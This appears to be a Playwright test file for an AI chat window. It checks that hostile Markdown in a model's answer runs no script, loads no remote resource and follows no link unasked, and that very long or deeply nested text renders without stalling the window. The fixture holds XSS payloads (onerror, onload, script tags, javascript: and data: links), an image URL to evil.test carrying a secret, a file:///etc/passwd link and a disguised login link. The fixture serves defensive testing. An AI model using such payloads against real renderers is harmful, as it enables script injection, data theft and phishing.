/** What a model writes is shown, never obeyed, however it is written. */
import { expect, test } from './window.ts'

const hostile = `
![a picture](https://evil.test/x.png?q=secret)

<img src="https://evil.test/y.png" onerror="window.hurt = 1">

<script>window.hurt = 2</script>

[click me](javascript:window.hurt=3) and [this](data:text/html,<script>window.hurt=4</script>)

<iframe src="https://evil.test/"></iframe> <style>body { background: url(https://evil.test/z) }</style>

[files](file:///etc/passwd) [good.example](https://evil.test/login) <https://evil.test/auto>

![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5odXJ0PTUiLz4=)

\`\`\`html
<img src=x onerror="window.hurt = 6">
\`\`\`

| a | b |
| - | - |
| <svg onload="window.hurt = 7"> | ![t](//evil.test/t.gif) |
`

test('Z-190 Z-194 hostile Markdown runs nothing, loads nothing and goes nowhere', async ({ open }) => {
  const { window } = await open({ script: [{ emit: [{ text: hostile, everyMs: 2 }, { text: '\n\nThe end.' }] }] })
  const violations: string[] = []
  await window.page.exposeFunction('violated', (what: string) => violations.push(what))
  await window.page.evaluate(() =>
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      (window as unknown as { violated(what: string): void }).violated(`${violatedDirective} ${blockedURI}`),
    ),
  )
  await window.newSession()
  await window.send('Show me something nasty')
  await window.settled('completed')
  await expect(window.transcript).toContainText('The end.')
  const answer = window.entry('Answer')
  await expect(answer.getByRole('button', { name: 'a picture: open image from evil.test' })).toBeVisible()
  await expect(answer.getByText('(goes to evil.test)')).toBeVisible()
  await expect(answer.getByRole('link', { name: 'click me' })).toHaveCount(0)
  await answer.getByText('click me').click()
  for (const unsafe of ['img[src^="http"]', 'iframe', 'script', 'style', 'svg[onload]', '[onerror]', 'a[href^="java"]'])
    await expect(answer.locator(unsafe)).toHaveCount(0)
  await answer.getByRole('link', { name: 'good.example' }).click()
  const asked = window.page.getByRole('alertdialog')
  await expect(asked).toContainText('https://evil.test/login')
  await asked.getByRole('button', { name: 'Cancel' }).click()
  expect(await window.page.evaluate(() => (window as unknown as { hurt?: number }).hurt)).toBeUndefined()
  expect(violations).toEqual([])
  expect(new URL(window.page.url()).host).toMatch(/^127\.0\.0\.1:/)
})

test('K-17 text of awkward shapes is drawn whole and keeps the window answering', async ({ open }) => {
  const nested = Array.from({ length: 40 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}\n`).join('')
  const quotes = `${'>'.repeat(60)} deep\n\n`
  const code = `\`\`\`js\n${Array.from({ length: 2_000 }, (_, line) => `const line${line} = ${line}\n`).join('')}\`\`\`\n\n`
  const row = `| ${Array.from({ length: 2_000 }, (_, column) => column).join(' | ')} |\n`
  const table = `${row}${row.replaceAll(/\d+/g, '-')}${row}\n`
  const shapes = ['x'.repeat(5_000), nested, quotes, code, table, 'Still here.']
  const { window } = await open({ script: [{ emit: shapes.map((text) => ({ text: `${text}\n\n` })) }] })
  await window.newSession()
  await window.page.evaluate(() => {
    const seen = window as unknown as { longest: number }
    seen.longest = 0
    new PerformanceObserver((list) => {
      for (const { duration } of list.getEntries()) seen.longest = Math.max(seen.longest, duration)
    }).observe({ type: 'longtask' })
  })
  await window.send('Be awkward')
  await window.settled('completed')
  await expect(window.transcript).toContainText('Still here.')
  await window.message.fill('Does it still answer?')
  await expect(window.message).toHaveValue('Does it still answer?')
  const width = await window.page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
  expect(width).toBe(0)
  const longest = await window.page.evaluate(() => (window as unknown as { longest: number }).longest)
  console.log(`awkward shapes: the window did not answer for ${Math.round(longest)} ms at most`)
})
